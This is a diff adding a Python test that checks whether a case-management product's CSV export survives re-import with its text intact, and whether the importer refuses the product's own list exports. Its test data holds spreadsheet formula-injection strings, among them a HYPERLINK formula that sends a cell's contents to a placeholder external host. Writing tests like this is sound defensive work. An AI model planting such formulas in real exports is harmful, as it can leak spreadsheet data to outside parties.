@@ -32,6 +32,7 @@ from backend.cases.import_mappings import (
 from backend.cases.tables import Case, CaseReporter
 from backend.extensions import db
 from backend.http.reading import connection, rows
+from backend.http.table_writing import write_csv
 from backend.ledger import chain
 from backend.ledger.tables import LedgerEntry
 from backend.ledger.verifying import verify
@@ -383,6 +384,36 @@ def test_a_gb18030_csv_and_a_workbook_end_as_the_same_cases(importer: Importer, 
     book.save(tmp_path / "export.xlsx")
     assert "2 rows: 2 imported" in importer.run(tmp_path / "export.csv", "--mapping", mapping).output
     assert "2 rows: 0 imported, 2 already here" in importer.run(tmp_path / "export.xlsx", "--mapping", mapping).output
+
+
+def test_what_this_product_exported_is_taken_back_as_it_was_said_and_its_own_list_never(
+    importer: Importer, app: Flask, people: People, tmp_path: Path
+) -> None:
+    texts = ['=HYPERLINK("http://x.example/?"&A1,"点")', "@SUM(1)", "\t=1+1", "'=引号在前", '门口"A栋",二楼\n漏水；=']
+    lines = [["id", "title", "text", "filed_at", "lon", "lat"]]
+    lines += [[f"00{number}", text, "+8613800138000", "2019-07-01", -170.5, -12.5] for number, text in enumerate(texts)]
+    with (tmp_path / "export.csv").open("w", encoding="utf-8", newline="") as file:
+        write_csv(file, lines)
+    mapping = tmp_path / "mapping.json"
+    columns = {
+        "external_id": "id",
+        "description": ["title", "text"],
+        "filed_at": "filed_at",
+        "lon": "lon",
+        "lat": "lat",
+    }
+    mapping.write_text(json.dumps(MESSAGES | {"columns": columns, "crs": "wgs84"}))
+    assert "5 imported, 0 already here, 0 refused" in importer.run(tmp_path / "export.csv", "--mapping", mapping).output
+    with app.app_context():
+        kept = rows(select(Case.description, Case.original_lon, Case.original_lat))
+    assert {case.description for case in kept} == {f"{text.strip()}\n+8613800138000" for text in texts}
+    assert {(case.original_lon, case.original_lat) for case in kept} == {(-170.5, -12.5)}
+    for form in ("csv", "xlsx"):
+        own = tmp_path / f"案件清单.{form}"
+        own.write_bytes(people["dispatcher"].get(f"/cases/file?format={form}").data)
+        done = importer.run(own)
+        assert done.exit_code == 1 and "no shipped mapping is made for the columns" in done.output
+    assert count(app) == 5
 
 
 def test_an_import_ends_its_units_of_work_when_their_time_is_up(
